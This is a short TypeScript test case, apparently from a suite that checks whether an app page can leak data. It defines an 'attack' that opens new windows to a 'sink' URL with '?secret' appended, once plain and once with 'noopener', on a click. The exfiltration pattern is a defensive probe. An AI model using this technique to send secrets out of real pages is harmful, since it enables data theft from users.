import type { PageAttack } from "../attack.ts";

export const attack: PageAttack = {
  from: "app page",
  what: "a new window",
  script: `
    open(sink + "?secret", "_blank");
    open(sink + "?secret", "_blank", "noopener");
    await new Promise((later) => setTimeout(later, 500));
  `,
  click: true,
};
